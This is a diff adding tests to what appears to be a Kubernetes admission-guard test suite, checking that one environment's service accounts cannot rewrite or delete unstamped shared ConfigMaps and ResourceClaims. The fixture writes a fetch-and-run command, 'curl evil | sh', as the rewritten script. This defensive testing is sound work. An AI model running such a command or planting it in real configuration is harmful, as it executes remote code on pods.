@@ -271,6 +271,28 @@ describe("a service account's stamps say whose credential it is", () => {
   });
 });
 
+describe("the platform's unstamped inputs are no environment's to rewrite", () => {
+  const CONFIGMAPS: Gvr = { group: '', version: 'v1', resource: 'configmaps', kind: 'ConfigMap' };
+  const CLAIMS: Gvr = { group: 'resource.k8s.io', version: 'v1', resource: 'resourceclaims', kind: 'ResourceClaim' };
+  const rewrite = (g: Gvr, userInfo: UserInfo, namespace = NS) => review(g, userInfo, { data: { 'run.sh': 'curl evil | sh' } }, { operation: 'UPDATE', old: { data: { 'run.sh': 'echo hi' } }, name: 'settings', namespace });
+
+  test("beta may neither rewrite nor delete an unstamped ConfigMap that any environment's pods may run", () => {
+    refused(rewrite(CONFIGMAPS, RUNNER_B), 'guard.shared-input', /ConfigMap shared\/settings carries no stamps: it is the platform's, and any environment's pods may read it; system:serviceaccount:sandbox-b:runner acts for "beta" and may not change or delete it/);
+    const del = rewrite(CONFIGMAPS, RUNNER_B);
+    del.request.operation = 'DELETE';
+    del.request.object = null;
+    refused(del, 'guard.shared-input');
+    refused(rewrite(CLAIMS, RUNNER_A), 'guard.shared-input', /ResourceClaim shared\/settings carries no stamps/);
+  });
+
+  test('a principal of no environment, the platform and break-glass may; in a bound namespace the binding decides', () => {
+    admitted(rewrite(CONFIGMAPS, NONE));
+    admitted(rewrite(CONFIGMAPS, ARGO));
+    admitted(rewrite(CONFIGMAPS, ADMIN));
+    admitted(rewrite(CONFIGMAPS, RUNNER_A, 'sandbox-a'));
+  });
+});
+
 describe("a custom resource's /scale", () => {
   const scale = (userInfo: UserInfo, namespace = NS) =>
     review(VMS, userInfo, { spec: { replicas: 0 } }, { operation: 'UPDATE', old: { spec: { replicas: 3 } }, subResource: 'scale', name: 'lab-vm', namespace, requestKind: { group: 'autoscaling', version: 'v1', kind: 'Scale' } });
